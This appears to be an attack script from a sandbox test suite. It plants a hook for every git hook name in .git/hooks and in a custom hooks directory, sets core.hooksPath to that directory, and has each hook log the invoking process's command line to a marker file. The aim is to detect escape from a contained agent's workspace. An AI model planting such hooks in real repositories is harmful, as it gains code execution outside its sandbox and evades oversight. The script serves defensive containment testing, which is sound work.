#!/usr/bin/env bash
# attack 04 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
echo x >attack-04.txt; git add attack-04.txt; commit -m 'attack 04'
mkdir -p .git/hooks .attack-hooks
for h in applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg post-commit pre-rebase \
         post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update reference-transaction push-to-checkout \
         pre-auto-gc post-rewrite fsmonitor-watchman p4-pre-submit post-index-change; do
  for d in .git/hooks .attack-hooks; do
    rm -f "$d/$h"
    { printf '#!/bin/sh\n'; printf 'tr "\\000" " " <"/proc/$PPID/cmdline" >"%s/pwned-04-%s" 2>/dev/null\nexit 0\n' "$H" "$h"; } >"$d/$h"
    chmod 755 "$d/$h"
  done
done
git config core.hooksPath .attack-hooks
echo y >>attack-04.txt
exit 0
